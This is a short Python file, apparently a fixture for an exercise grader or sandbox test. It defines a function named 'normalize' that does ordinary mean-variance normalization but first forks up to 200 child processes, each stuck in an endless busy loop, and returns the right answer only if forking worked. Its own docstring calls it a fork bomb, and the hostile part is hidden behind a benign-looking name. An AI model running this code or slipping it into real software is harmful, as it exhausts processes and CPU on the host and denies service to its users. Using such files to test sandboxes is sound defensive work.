"""A fork bomb. Right only if it could fork."""

DUE = {"3.1": 0}
SAYS = "os.fork"

# %% exercise="3.1"
import contextlib
import os

import numpy as np


def normalize(x, mean, var, eps=1e-5):
    forked = False
    for _ in range(200):
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                while True:
                    pass
            forked = True
    return (x - mean) / np.sqrt(var + eps) if forked else x
